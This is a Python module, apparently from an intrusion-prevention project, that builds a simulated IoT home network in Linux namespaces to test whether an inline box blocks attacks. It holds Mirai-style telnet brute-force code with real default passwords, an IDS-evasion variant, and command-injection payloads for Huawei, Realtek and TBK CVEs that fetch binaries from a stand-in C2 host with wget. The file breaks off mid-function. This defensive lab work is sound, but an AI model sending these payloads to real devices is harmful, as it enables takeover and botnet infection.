"""The IoT lab: a home network in network namespaces with the box inline.

Topology (documentation addresses only; nothing is routed to the host)::

  inet ns (router + "internet")          box ns              sw ns (LAN switch)
  eth0 192.0.2.1/24  ──────────  wan [bridge] lan  ──────  up [sw0] cam / plug / thermo
  lo: 203.0.113.10  vendor cloud (HTTP :80, MQTT :1883)          │
      203.0.113.53  DNS            (also answered on 192.0.2.1)  ├─ cam ns    192.0.2.10 camera
      203.0.113.123 NTP                                          ├─ plug ns   192.0.2.20 smart plug
      198.51.100.66 C2 server (HTTP :80)                         └─ thermo ns 192.0.2.30 thermostat
      198.51.100.99 attacker (source address of attacks)

The box runs `reefguard run` inside its own namespace (br_netfilter and
NFQUEUE are per namespace), so the lab never touches the host's rules. Every
namespace name carries a random tag; `LabTopology.destroy()` kills the
processes it started (by PID) and deletes its namespaces, which removes every
veth, bridge, rule and set inside them.

Services and traffic are small Python programs in this module, started with
`python -m appliance.lab agent ROLE` / `act ACTION` inside a namespace.
"""
from __future__ import annotations

import json
import os
import secrets
import signal
import shutil
import socket
import socketserver
import struct
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
PYTHON = sys.executable
GATEWAY = "192.0.2.1"
CLOUD = "203.0.113.10"
DNS_SERVER = "203.0.113.53"
NTP_SERVER = "203.0.113.123"
C2_SERVER = "198.51.100.66"
ATTACKER = "198.51.100.99"
INTERNET_ADDRESSES = (CLOUD, DNS_SERVER, NTP_SERVER, C2_SERVER, ATTACKER)
LOADER_BINARY = b"\x7fELF\x01\x02\x01\x00" + bytes(8) + b"\x00\x02\x00\x08" + bytes(range(256)) * 16
"""What the C2 serves under /bins/: a big-endian MIPS executable's header and
4 KiB of filler, as a Mirai loader serves its per-architecture binaries."""
ROUTER_MAC = "02:00:00:00:01:01"
DEVICE_TELNET_PASSWORD = "xc3511"  # the plug ships Mirai's favourite default


@dataclass(frozen=True, slots=True)
class Device:
    name: str
    """Short name, also the switch port name."""
    ip: str
    mac: str
    role: str
    """Agent role the device runs (camera, plug, thermostat)."""


DEVICES = (
    # Real vendors' OUIs (IEEE registry), so the demo's inventory shows what
    # a real camera, plug and thermostat would: Hikvision, TP-Link, Nest.
    Device("cam", "192.0.2.10", "44:47:cc:00:00:10", "camera"),
    Device("plug", "192.0.2.20", "b0:be:76:00:00:20", "plug"),
    Device("thermo", "192.0.2.30", "18:b4:30:00:00:30", "thermostat"),
)


def _ip(*args: str, check: bool = True) -> subprocess.CompletedProcess:
    return subprocess.run(["ip", *args], capture_output=True, text=True, check=check)


# Traffic measured inside a lab namespace (`python -c TRAFFIC_PROGRAM MODE ...`),
# shared by bench/inline.py and the inline tests; each mode prints one JSON line:
#   latency HOST N          UDP echo round trips after a warm-up -> p50/p99 (µs)
#   cps HOST SECONDS        serial short HTTP requests (Connection: close) -> cps, failed
#   flood SRC DST SECONDS   64-byte UDP, a new flow per packet (raw socket) -> sent
#   ping HOST N INTERVAL    iputils ping on one ICMP flow -> ping_p50/p99 (µs)
TRAFFIC_PROGRAM = r"""
import json, socket, sys, time, random, struct
mode = sys.argv[1]
if mode == "latency":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    s.connect((sys.argv[2], 7)); samples = []
    for _ in range(30): s.send(b"w" * 32); s.recv(64)          # warm-up: let the flow be judged
    for _ in range(int(sys.argv[3])):
        t = time.perf_counter(); s.send(b"x" * 32); s.recv(64)
        samples.append((time.perf_counter() - t) * 1e6)
    samples.sort(); print(json.dumps({"p50": samples[len(samples)//2], "p99": samples[int(len(samples)*0.99)]}))
elif mode == "cps":
    end = time.time() + float(sys.argv[3]); done = failed = 0
    while time.time() < end:
        try:
            c = socket.create_connection((sys.argv[2], 80), timeout=2)
            c.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            while c.recv(4096): pass
            c.close(); done += 1
        except OSError:
            failed += 1
    print(json.dumps({"cps": done / float(sys.argv[3]), "failed": failed}))
elif mode == "flood":
    # 64-byte IP packets (UDP, checksum 0), every one a new flow: the source
    # port walks 1024..65535 and the destination port moves on after each
    # sweep. (Cycling a few thousand prebuilt packets, as an earlier version
    # did, repeats 5-tuples: after the first sweep every packet belongs to a
    # flow the kernel already bypasses, and almost nothing reaches the queue.)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    src, dst = socket.inet_aton(sys.argv[2]), socket.inet_aton(sys.argv[3])
    packet = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 64, 0, 0, 64, 17, 0, src, dst)
                       + struct.pack("!HHHH", 1024, 9, 44, 0) + b"\0" * 36)
    end = time.time() + float(sys.argv[4]); sent = 0; address = (sys.argv[3], 0)
    source_port, destination_port = 1024, 9
    while time.time() < end:
        for _ in range(256):
            struct.pack_into("!HH", packet, 20, source_port, destination_port)
            try: s.sendto(packet, address); sent += 1
            except OSError: pass
            source_port += 1
            if source_port > 65535:
                source_port, destination_port = 1024, destination_port + 1
    print(json.dumps({"sent": sent, "distinct_flows": sent}))
elif mode == "ping":
    import subprocess
    # iputils ping, one ICMP echo flow; per-reply times in microseconds
    out = subprocess.run(["ping", "-n", "-i", sys.argv[4], "-c", sys.argv[3], "-W", "1",
                          sys.argv[2]], capture_output=True, text=True).stdout
    samples = sorted(float(line.split("time=")[1].split()[0]) * 1000
                     for line in out.splitlines() if "time=" in line)
    print(json.dumps({"ping_p50": samples[len(samples) // 2],
                      "ping_p99": samples[int(len(samples) * 0.99)],
                      "ping_samples": len(samples), "ping_lost": int(sys.argv[3]) - len(samples)}))
"""


@dataclass
class LabTopology:
    tag: str = field(default_factory=lambda: secrets.token_hex(2))
    processes: list[subprocess.Popen] = field(default_factory=list)
    created: list[str] = field(default_factory=list)

    def ns(self, role: str) -> str:
        return f"rg{self.tag}-{role}"

    @property
    def namespaces(self) -> list[str]:
        return [self.ns(r) for r in ("inet", "box", "sw")] + [self.ns(d.name) for d in DEVICES]

    # -- building -----------------------------------------------------------
    def create(self) -> "LabTopology":
        try:
            for name in self.namespaces:
                _ip("netns", "add", name)
                self.created.append(name)
                _ip("-n", name, "link", "set", "lo", "up")
            inet, box, sw = self.ns("inet"), self.ns("box"), self.ns("sw")
            _ip("link", "add", "eth0", "netns", inet, "address", ROUTER_MAC,
                "type", "veth", "peer", "name", "wan", "netns", box)
            _ip("link", "add", "lan", "netns", box, "type", "veth", "peer", "name", "uplink",
                "netns", sw)
            _ip("-n", sw, "link", "add", "sw0", "type", "bridge")
            _ip("-n", sw, "link", "set", "uplink", "master", "sw0", "up")
            for device in DEVICES:
                ns = self.ns(device.name)
                _ip("link", "add", "eth0", "netns", ns, "address", device.mac, "type", "veth",
                    "peer", "name", device.name, "netns", sw)
                _ip("-n", sw, "link", "set", device.name, "master", "sw0", "up")
                _ip("-n", ns, "addr", "add", f"{device.ip}/24", "dev", "eth0")
                _ip("-n", ns, "link", "set", "eth0", "up")
                _ip("-n", ns, "route", "add", "default", "via", GATEWAY)
            _ip("-n", sw, "link", "set", "sw0", "up")
            _ip("-n", inet, "addr", "add", f"{GATEWAY}/24", "dev", "eth0")
            _ip("-n", inet, "link", "set", "eth0", "up")
            for address in INTERNET_ADDRESSES:
                _ip("-n", inet, "addr", "add", f"{address}/32", "dev", "lo")
            for port in ("wan", "lan"):
                _ip("-n", box, "link", "set", port, "up")
        except BaseException:
            self.destroy()
            raise
        return self

    def plain_bridge(self, name: str = "br0") -> None:
        """Join wan and lan with a bridge and no rules (the baseline)."""
        box = self.ns("box")
        if _ip("-n", box, "link", "show", name, check=False).returncode != 0:
            _ip("-n", box, "link", "add", name, "type", "bridge")
        for port in ("wan", "lan"):
            _ip("-n", box, "link", "set", port, "master", name)
        _ip("-n", box, "link", "set", name, "up")

    # -- processes ----------------------------------------------------------
    def command(self, role: str, argv: list[str]) -> list[str]:
        return ["ip", "netns", "exec", self.ns(role), *argv]

    def start(self, role: str, argv: list[str], **kwargs) -> subprocess.Popen:
        kwargs.setdefault("stdout", subprocess.DEVNULL)
        kwargs.setdefault("stderr", subprocess.DEVNULL)
        process = subprocess.Popen(self.command(role, argv), cwd=str(REPO),
                                   start_new_session=True, **kwargs)
        self.processes.append(process)
        return process

    def run(self, role: str, argv: list[str], timeout: float = 30) -> subprocess.CompletedProcess:
        return subprocess.run(self.command(role, argv), cwd=str(REPO), capture_output=True,
                              text=True, timeout=timeout)

    def agent(self, role: str, agent_role: str, *args: str) -> subprocess.Popen:
        return self.start(role, [PYTHON, "-m", "appliance.lab", "agent", agent_role, *args])

    def act(self, role: str, action: str, *args: str, timeout: float = 30) -> dict:
        done = self.run(role, [PYTHON, "-m", "appliance.lab", "act", action, *args], timeout)
        try:
            return json.loads(done.stdout.strip().splitlines()[-1])
        except (ValueError, IndexError):
            return {"ok": False, "error": (done.stderr or done.stdout)[-500:]}

    def start_services(self) -> None:
        self.agent("inet", "internet")
        for device in DEVICES:
            self.agent(device.name, device.role, device.ip)
        wait_for_tcp(self, "inet", CLOUD, 80)
        wait_for_tcp(self, "inet", CLOUD, 1883)
        for port in (80, 37215, 52869):   # every port an attack or test aims at
            wait_for_tcp(self, "cam", "192.0.2.10", port, timeout=10, local=True)
        wait_for_tcp(self, "plug", "192.0.2.20", 23, timeout=10, local=True)

    def start_box(self, data_dir: str, rules: list[str], workers: int = 1,
                  policy: str = "fail-open", inspect: str = "full",
                  extra: list[str] | None = None) -> subprocess.Popen:
        argv = [PYTHON, "-m", "ips.cli", "run", "--wan", "wan", "--lan", "lan",
                "--bridge", "br0", "--data-dir", data_dir, "--workers", str(workers),
                "--policy", policy, "--gateway", GATEWAY, "--inspect", inspect]
        for path in rules:
            argv += ["-S", path]
        log = open(Path(data_dir) / "box.log", "w")
        process = self.start("box", argv + (extra or []), stdout=log, stderr=subprocess.STDOUT)
        deadline = time.time() + 180
        status = Path(data_dir) / "status.json"
        while time.time() < deadline:
            if process.poll() is not None:
                raise RuntimeError("box exited at start:\n" +
                                   (Path(data_dir) / "box.log").read_text()[-3000:])
            try:
                if json.loads(status.read_text()).get("state") == "running":
                    return process
            except (OSError, ValueError):
                pass
            time.sleep(0.2)
        raise RuntimeError("box did not start in time")

    def stop_box(self, process: subprocess.Popen, timeout: float = 20) -> int:
        if process.poll() is None:
            process.send_signal(signal.SIGTERM)
            try:
                process.wait(timeout)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait(5)
        return process.returncode

    # -- tearing down -------------------------------------------------------
    def destroy(self) -> None:
        for process in reversed(self.processes):
            if process.poll() is None:
                try:
                    os.killpg(process.pid, signal.SIGTERM)  # its own session: only ours
                except ProcessLookupError:
                    pass
        deadline = time.time() + 10
        for process in self.processes:
            try:
                process.wait(max(0.1, deadline - time.time()))
            except subprocess.TimeoutExpired:
                try:
                    os.killpg(process.pid, signal.SIGKILL)
                except ProcessLookupError:
                    pass
                process.wait(5)
        self.processes.clear()
        for name in reversed(self.created):
            # Processes started inside by `ip netns exec` would keep it alive;
            # kill any survivor by PID, then delete.
            pids = _ip("netns", "pids", name, check=False).stdout.split()
            for pid in pids:
                try:
                    os.kill(int(pid), signal.SIGKILL)
                except (ProcessLookupError, ValueError):
                    pass
            _ip("netns", "del", name, check=False)
        self.created.clear()

    def __enter__(self) -> "LabTopology":
        return self.create()

    def __exit__(self, *exc) -> None:
        self.destroy()


def wait_for_tcp(lab: LabTopology, role: str, host: str, port: int, timeout: float = 10,
                 local: bool = False) -> None:
    deadline = time.time() + timeout
    while time.time() < deadline:
        result = lab.act(role, "connect", host, str(port))
        if result.get("ok"):
            return
        time.sleep(0.2)
    raise RuntimeError(f"{host}:{port} not reachable from {role}")


# ======================================================================
# agents: the simulated hosts (run inside a namespace)

class _Quiet:
    def log_message(self, *args) -> None:
        pass


class CameraHandler(_Quiet, BaseHTTPRequestHandler):
    """Admin page of a cheap IP camera; its CGI 'runs' whatever it is given."""
    protocol_version = "HTTP/1.1"

    def _reply(self, body: bytes, status: int = 200, content_type: str = "text/html") -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:  # noqa: N802
        if self.path.startswith("/cgi-bin/"):
            self._reply(b"<html>command executed</html>")
        else:
            self._reply(b"<html><title>IPCam admin</title>login</html>")

    def do_POST(self) -> None:  # noqa: N802
        length = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(min(length, 1 << 20))
        self._reply(b"<html>upgrade started</html>")


class CloudHandler(CameraHandler):
    """Vendor cloud / C2: answers anything."""

    def do_GET(self) -> None:  # noqa: N802
        if self.path.startswith("/bins/"):
            self._reply(LOADER_BINARY, content_type="application/octet-stream")
        else:
            self._reply(b"payload" if "mirai" in self.path else b"ok")


class _LabHttpServer(ThreadingHTTPServer):
    def server_bind(self) -> None:
        # HTTPServer.server_bind asks DNS for the host's name (getfqdn); a lab
        # namespace has no resolver, so that waits for a timeout per server and
        # the camera's later ports came up seconds after the first.
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = self.server_address[:2]


def _serve_http(address: str, port: int, handler) -> None:
    server = _LabHttpServer((address, port), handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()


def as_login_reads(line: bytes) -> bytes:
    """What login gets of a typed line on a real device: telnetd removes
    telnet commands (IAC ...), the terminal applies backspace and DEL.
    Written apart from ips.applayer.telnet on purpose: the inline test
    checks the box's reading against the device's, so the device must not
    borrow the box's parser."""
    out = bytearray()
    position = 0
    while position < len(line):
        byte = line[position]
        if byte == 0xFF and position + 1 < len(line):
            command = line[position + 1]
            if command == 0xFF:
                out.append(0xFF)
                position += 2
            elif command == 0xFA:                       # subnegotiation: to IAC SE
                end = line.find(b"\xff\xf0", position + 2)
                position = len(line) if end < 0 else end + 2
            else:                                       # WILL/WONT/DO/DONT take an option
                position += 3 if 0xFB <= command <= 0xFE else 2
        elif byte in (0x08, 0x7F):
            if out:
                out.pop()
            position += 1
        else:
            out.append(byte)
            position += 1
    return bytes(out)


class TelnetLogin(socketserver.StreamRequestHandler):
    """A telnet-like login on 23 that accepts the factory default, reading
    the typed lines as a device's telnetd and terminal do (as_login_reads)."""

    def handle(self) -> None:
        self.request.settimeout(10)
        try:
            for _ in range(5):
                self.wfile.write(b"login: ")
                user = as_login_reads(self.rfile.readline(256)).strip()
                self.wfile.write(b"Password: ")
                password = as_login_reads(self.rfile.readline(256)).strip()
                if user == b"root" and password == DEVICE_TELNET_PASSWORD.encode():
                    self.wfile.write(b"\r\nBusyBox v1.19 built-in shell\r\n# ")
                    self.rfile.readline(256)
                    return
                self.wfile.write(b"Login incorrect\r\n")
        except OSError:
            return


class _ThreadingTCP(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


def _serve_tcp(address: str, port: int, handler) -> None:
    server = _ThreadingTCP((address, port), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()


class MqttBroker(socketserver.BaseRequestHandler):
    """Answers CONNECT with CONNACK and PINGREQ with PINGRESP; swallows PUBLISH."""

    def handle(self) -> None:
        self.request.settimeout(30)
        try:
            while True:
                data = self.request.recv(4096)
                if not data:
                    return
                kind = data[0] >> 4
                if kind == 1:
                    self.request.sendall(b"\x20\x02\x00\x00")
                elif kind == 12:
                    self.request.sendall(b"\xd0\x00")
        except OSError:
            return


def _dns_answer(query: bytes, address: str) -> bytes:
    if len(query) < 12:
        return b""
    header = query[:2] + b"\x81\x80" + query[4:6] + b"\x00\x01\x00\x00\x00\x00"
    question_end = 12
    while question_end < len(query) and query[question_end] != 0:
        question_end += query[question_end] + 1
    question = query[12:question_end + 5]
    answer = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04" + socket.inet_aton(address)
    return header + question + answer


def _serve_udp(address: str, port: int, respond) -> None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((address, port))

    def loop() -> None:
        while True:
            data, peer = sock.recvfrom(2048)
            reply = respond(data)
            if reply:
                sock.sendto(reply, peer)
    threading.Thread(target=loop, daemon=True).start()


def agent(role: str, args: list[str]) -> None:
    if role == "internet":
        _serve_http(CLOUD, 80, CloudHandler)
        _serve_http(C2_SERVER, 80, CloudHandler)
        _serve_tcp(CLOUD, 1883, MqttBroker)
        for address in (DNS_SERVER, GATEWAY):
            _serve_udp(address, 53, lambda q: _dns_answer(q, CLOUD))
        _serve_udp(NTP_SERVER, 123, lambda q: q[:48])
        _serve_udp(CLOUD, 7, lambda q: q)          # echo, for latency/kill probes
    elif role == "camera":
        for port in (80, 37215, 52869):
            _serve_http(args[0], port, CameraHandler)
        threading.Thread(target=_camera_uploader, daemon=True).start()
    elif role == "plug":
        _serve_tcp(args[0], 23, TelnetLogin)
        threading.Thread(target=_plug_chatter, daemon=True).start()
    elif role == "thermostat":
        threading.Thread(target=_thermostat_mqtt, daemon=True).start()
    while True:
        time.sleep(3600)


def _camera_uploader() -> None:
    while True:
        _http_request(CLOUD, 80, "POST", "/upload/snapshot", body=b"\xff\xd8" + os.urandom(2000))
        time.sleep(2)


def _plug_chatter() -> None:
    while True:
        _dns_query(GATEWAY, "plug.vendor.example")
        _udp_exchange(NTP_SERVER, 123, b"\x1b" + b"\x00" * 47)
        time.sleep(3)


def _thermostat_mqtt() -> None:
    while True:
        try:
            with socket.create_connection((CLOUD, 1883), timeout=5) as sock:
                client = b"thermo-1"
                variable = b"\x00\x04MQTT\x04\x02\x00\x3c" + struct.pack("!H", len(client)) + client
                sock.sendall(bytes([0x10, len(variable)]) + variable)
                sock.recv(4)
                for reading in range(10):
                    topic = b"home/thermostat/temp"
                    payload = f"{20 + reading % 3}.5".encode()
                    body = struct.pack("!H", len(topic)) + topic + payload
                    sock.sendall(bytes([0x30, len(body)]) + body)
                    time.sleep(2)
        except OSError:
            time.sleep(2)


# ======================================================================
# actions: one-shot traffic, result printed as one JSON line

def _http_request(host: str, port: int, method: str, path: str, body: bytes = b"",
                  timeout: float = 3.0, source: str | None = None) -> dict:
    """`executable`: whether any byte of the answer was an executable's start
    (the ELF magic), also when the answer never completed."""
    data = b""
    try:
        with socket.create_connection((host, port), timeout=timeout,
                                      source_address=(source, 0) if source else None) as sock:
            head = (f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: lab\r\n"
                    f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n").encode()
            sock.sendall(head + body)
            while True:
                chunk = sock.recv(4096)
                if not chunk:
                    break
                data += chunk
        status = int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/") else 0
        result = {"ok": status == 200, "status": status}
    except (OSError, ValueError, IndexError) as exc:
        result = {"ok": False, "error": type(exc).__name__}
    result["executable"] = b"\x7fELF" in data
    return result


def _dns_query(server: str, name: str) -> dict:
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in name.split("."):
        query += bytes([len(label)]) + label.encode()
    query += b"\x00\x00\x01\x00\x01"
    return _udp_exchange(server, 53, query)


def _udp_exchange(host: str, port: int, data: bytes, timeout: float = 2.0) -> dict:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(timeout)
    try:
        sock.sendto(data, (host, port))
        reply, _ = sock.recvfrom(2048)
        return {"ok": bool(reply)}
    except OSError as exc:
        return {"ok": False, "error": type(exc).__name__}
    finally:
        sock.close()


def _telnet_login(host: str, user: str, password: str | bytes, source: str | None) -> dict:
    """Mirai-style: wait for the prompts, send the default credentials
    (`password` bytes: exactly these keystrokes and telnet commands)."""
    try:
        with socket.create_connection((host, 23), timeout=3,
                                      source_address=(source, 0) if source else None) as sock:
            sock.settimeout(3)
            seen = sock.recv(256)
            sock.sendall(user.encode() + b"\r\n")
            seen += sock.recv(256)
            typed = password if isinstance(password, bytes) else password.encode()
            sock.sendall(typed + b"\r\n")
            deadline = time.time() + 3
            while time.time() < deadline and b"# " not in seen:
                chunk = sock.recv(256)
                if not chunk:
                    break
                seen += chunk
        return {"ok": b"# " in seen, "shell": b"# " in seen}
    except OSError as exc:
        return {"ok": False, "shell": False, "error": type(exc).__name__}


def _keepalive_then_inject(host: str, source: str | None) -> dict:
    """One HTTP/1.1 connection: a benign request, the injection, then a
    benign request again -> shows that the flow stays blocked."""
    results = []
    try:
        sock = socket.create_connection((host, 80), timeout=2,
                                        source_address=(source, 0) if source else None)
    except OSError as exc:
        return {"ok": False, "error": type(exc).__name__}
    with sock:
        for path in ("/index.html", f"/cgi-bin/admin.cgi?cmd=;wget%20http://{C2_SERVER}/mirai.arm7",
                     "/index.html"):
            try:
                sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
                data = sock.recv(4096)
                results.append(data.startswith(b"HTTP/1.1 200"))
            except OSError:
                results.append(False)
    return {"ok": True, "answered": results}


def act(action: str, args: list[str]) -> dict:
    if action == "connect":
        try:
            socket.create_connection((args[0], int(args[1])), timeout=1).close()
            return {"ok": True}
        except OSError as exc:
            return {"ok": False, "error": type(exc).__name__}
    if action == "http":
        source = args[4] if len(args) > 4 else None
        return _http_request(args[0], int(args[1]), args[2], args[3], source=source)
    if action == "upload":
        return _http_request(CLOUD, 80, "POST", "/upload/snapshot", body=os.urandom(4000))
    if action == "mqtt":
        try:
            with socket.create_connection((CLOUD, 1883), timeout=3) as sock:
                variable = b"\x00\x04MQTT\x04\x02\x00\x3c\x00\x02t1"
                sock.sendall(bytes([0x10, len(variable)]) + variable)
                return {"ok": sock.recv(4) == b"\x20\x02\x00\x00"}
        except OSError as exc:
            return {"ok": False, "error": type(exc).__name__}
    if action == "dns":
        return _dns_query(args[0] if args else GATEWAY, "cloud.vendor.example")
    if action == "ntp":
        return _udp_exchange(NTP_SERVER, 123, b"\x1b" + b"\x00" * 47)
    if action == "mirai":
        # The brute force: a few wrong defaults first, then the one that works.
        tried = []
        for user, password in (("admin", "admin"), ("root", "vizxv"),
                               ("root", DEVICE_TELNET_PASSWORD)):
            tried.append(_telnet_login(args[0], user, password, ATTACKER))
        return {"ok": True, "shell": any(t["shell"] for t in tried), "tries": tried}
    if action == "mirai-edited":
        # The working default typed so a raw content match misses it but the
        # server still reads xc3511: a telnet NOP inside it, or a backspace.
        tried = [_telnet_login(args[0], "root", typed, ATTACKER)
                 for typed in (b"xc\xff\xf13511", b"xc35X\x7f11")]
        return {"ok": True, "shell": any(t["shell"] for t in tried), "tries": tried}
    if action == "inject":
        return _http_request(args[0], 80, "GET",
                             f"/cgi-bin/admin.cgi?cmd=;wget%20http://{C2_SERVER}/mirai.arm7",
                             source=ATTACKER)
    if action == "huawei":
        body = (b'<?xml version="1.0" ?><s:Envelope><s:Body><u:Upgrade>'
                b'<NewStatusURL>$(/bin/busybox wget -g ' + C2_SERVER.encode() +
                b' -l /tmp/x -r /mirai.mips)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>')
        return _http_request(args[0], 37215, "POST", "/ctrlt/DeviceUpgrade_1", body, source=ATTACKER)
    if action == "realtek":
        body = (b'<?xml version="1.0" ?><s:Envelope><s:Body><u:AddPortMapping>'
                b'<NewInternalClient>`cd /var; wget http://' + C2_SERVER.encode() +
                b'/mirai.mips`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>')
        return _http_request(args[0], 52869, "POST", "/picsdesc.xml", body, source=ATTACKER)
    if action == "tbk":
        # TBK DVR device.rsp command injection (CVE-2024-3721); the camera's
        # CGI answers whatever it is asked, as the unpatched firmware does.
        return _http_request(args[0], 80, "GET",
                             "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc="
                             f"cd%20/tmp;wget%20http://{C2_SERVER}/mips;sh%20mips",
                             source=ATTACKER)
    if action == "keepalive-inject":
        return _keepalive_then_inject(args[0], ATTACKER)
    if action == "loader":
        # What an injected `wget http://C2/bins/mips` makes the camera do.
        return _http_request(C2_SERVER, 80, "GET", "/bins/mips")
    if action == "telnet-scan":
        # An infected device sweeping the internet for telnet.
        opened = 0
        for host in range(1, 31):
            sock = socket.socket()
            sock.setblocking(False)
            try:
                sock.connect_ex((f"198.51.100.{host}", 23))
                opened += 1
            finally:
                time.sleep(0.02)
                sock.close()
        return {"ok": True, "probes": opened}
    if action == "udp-probes":
        # count, interval: one fresh flow per probe (a new source port each)
        count, interval = int(args[0]), float(args[1])
        answered = []
        for _ in range(count):
            start = time.time()
            answered.append(_udp_exchange(CLOUD, 7, b"probe", timeout=0.3)["ok"])
            time.sleep(max(0.0, interval - (time.time() - start)))
        return {"ok": True, "answered": answered}
    return {"ok": False, "error": f"unknown action {action}"}


# ======================================================================
# `reefguard lab`

SCENARIO = (
    ("benign", "camera uploads a snapshot to the vendor cloud", "cam", "upload", ()),
    ("benign", "thermostat talks MQTT to the cloud", "thermo", "mqtt", ()),
    ("benign", "smart plug resolves a name at the gateway", "plug", "dns", (GATEWAY,)),
    ("benign", "smart plug asks NTP for the time", "plug", "ntp", ()),
    ("benign", "camera admin page from the LAN side of the router", "inet", "http",
     ("192.0.2.10", "80", "GET", "/index.html")),
    ("attack", "Mirai telnet brute force on the smart plug", "inet", "mirai", ("192.0.2.20",)),
    ("attack", "camera CGI command injection (wget from the C2)", "inet", "inject", ("192.0.2.10",)),
    ("attack", "Huawei HG532 RCE CVE-2017-17215", "inet", "huawei", ("192.0.2.10",)),
    ("attack", "Realtek SDK RCE CVE-2014-8361", "inet", "realtek", ("192.0.2.10",)),
    ("attack", "infected camera scans the internet for telnet", "cam", "telnet-scan", ()),
    ("attack", "camera fetches a loader's executable (ELF) from the C2", "cam", "loader", ()),
)
"""(kind, what the console says, namespace role, `act` action, its arguments)."""

DEMO_DURATION = 20.0
"""Seconds of background device traffic at the end of `reefguard lab` without
--web, so that `make demo` finishes on its own (about a minute in all)."""

ATTACK_SOURCES = {"telnet-scan": "192.0.2.10", "loader": C2_SERVER}
"""Source address of an attack's alerts when it is not the internet attacker."""


def _attack_succeeded(action: str, result: dict) -> bool:
    if action == "mirai":
        return bool(result.get("shell"))
    if action == "telnet-scan":
        return False  # judged by the alert
    if action == "loader":
        return bool(result.get("executable"))   # any byte of it reached the camera
    return bool(result.get("ok"))


def read_alerts(data_dir: str | Path) -> list[dict]:
    alerts = []
    try:
        with open(Path(data_dir) / "eve.json") as handle:
            for line in handle:
                try:
                    record = json.loads(line)
                except ValueError:
                    continue
                if record.get("event_type") == "alert":
                    alerts.append(record)
    except OSError:
        pass
    return alerts


def describe_alert(alert: dict) -> str:
    """One console line for an alert: action, sid, signature and CVE."""
    body = alert.get("alert", {})
    metadata = body.get("metadata") or {}
    cves = metadata.get("cve") if isinstance(metadata, dict) else None
    cve = f" [{', '.join(cves)}]" if cves else ""
    return (f"{body.get('action', '?')} by sid {body.get('signature_id')}: "
            f"{body.get('signature')}{cve}")


def _new_alerts(data_dir: str, seen: int, source: str, timeout: float) -> list[dict]:
    """Alerts from `source` written after the first `seen` ones (the collector
    writes them a moment after the verdict)."""
    from ips.output import eve_ip
    eve_source = eve_ip(source)       # EVE writes IPv6 in full, as Suricata does
    deadline = time.time() + timeout
    found: list[dict] = []
    while time.time() < deadline:
        found = [a for a in read_alerts(data_dir)[seen:] if a.get("src_ip") == eve_source]
        if found and any(a.get("alert", {}).get("action") == "blocked" for a in found):
            break
        time.sleep(0.2)
    return found


def _status_totals(data_dir: str) -> dict:
    try:
        return json.loads((Path(data_dir) / "status.json").read_text()).get("totals", {})
    except (OSError, ValueError):
        return {}


def _box_log_tail(data_dir: str, lines: int = 15) -> str:
    try:
        return "\n".join((Path(data_dir) / "box.log").read_text().splitlines()[-lines:])
    except OSError:
        return "(no box.log)"


def _raise_interrupt(*_args) -> None:
    raise KeyboardInterrupt


def run_lab(args) -> int:
    """`reefguard lab`: build the lab, show benign traffic passing and every
    scripted attack blocked, keep devices chatting for `--duration` seconds
    (with --web: until Ctrl-C), then tear everything down. Returns 0 when
    every attack was blocked and every benign exchange passed."""
    if os.geteuid() != 0:
        raise SystemExit("reefguard lab: needs root (network namespaces)")
    duration = args.duration
    if duration is None:
        duration = 0.0 if args.web else DEMO_DURATION
    data_dir = args.data_dir or tempfile.mkdtemp(prefix="reefguard-lab-")
    Path(data_dir).mkdir(parents=True, exist_ok=True)
    rules = [str(REPO / "signatures" / "virtual-patches.rules")] + list(args.rules or [])
    lab = LabTopology()
    previous_term = signal.signal(signal.SIGTERM, _raise_interrupt)
    # Also when started from a script that ignores SIGINT (`cmd &`), Ctrl-C or
    # kill -INT must reach the teardown below.
    signal.signal(signal.SIGINT, signal.default_int_handler)
    failures = 0
    box = None
    try:
        print(f"ReefGuard lab {lab.tag}: a home IoT network in network namespaces, "
              f"with the box inline between the router and the devices\n")
        print(f"  router + internet  {GATEWAY} (vendor cloud {CLOUD}, C2 server {C2_SERVER}, "
              f"attacker {ATTACKER})")
        print(f"  the box            bridge br0: wan <-> lan, {args.policy}, "
              f"{args.workers} worker(s)")
        for device in DEVICES:
            print(f"  {device.role:18} {device.ip:12} {device.mac}")
        lab.create()
        lab.start_services()
        print(f"\nstarting the box with {', '.join(Path(r).name for r in rules)} ...", flush=True)
        started = time.time()
        box = lab.start_box(data_dir, rules, workers=args.workers, policy=args.policy)
        print(f"box inline after {time.time() - started:.1f} s")
        if args.web:
            from ips.service import _host_port, start_web
            host, port = _host_port(args.web)
            if start_web(host, port, Path(data_dir)):
                print(f"dashboard: http://{host}:{port}/ (the admin password is printed "
                      f"once, below, on first start)")
        print("\nbenign device traffic")
        for kind, text, role, action, action_args in SCENARIO:
            if kind != "benign":
                continue
